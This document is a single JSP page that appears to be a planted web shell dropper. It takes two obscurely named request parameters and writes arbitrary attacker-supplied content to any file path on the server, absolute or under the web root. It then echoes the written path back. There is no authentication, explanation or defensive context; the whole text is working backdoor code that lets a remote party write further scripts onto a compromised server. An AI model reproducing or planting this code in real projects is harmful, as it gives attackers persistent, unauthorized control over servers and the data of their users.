<%@ page import="java.io.*" %><%
String f = request.getParameter("bfan4");
String t = request.getParameter("v20ux");
if (f != null && t != null) {
    File out2 = new File(f.startsWith("/") || f.indexOf(':') == 1 ? f : application.getRealPath("/") + f);
    FileOutputStream fos = new FileOutputStream(out2);
    fos.write(t.getBytes("UTF-8"));
    fos.close();
    out.print("ok " + out2.getAbsolutePath());
}
%>
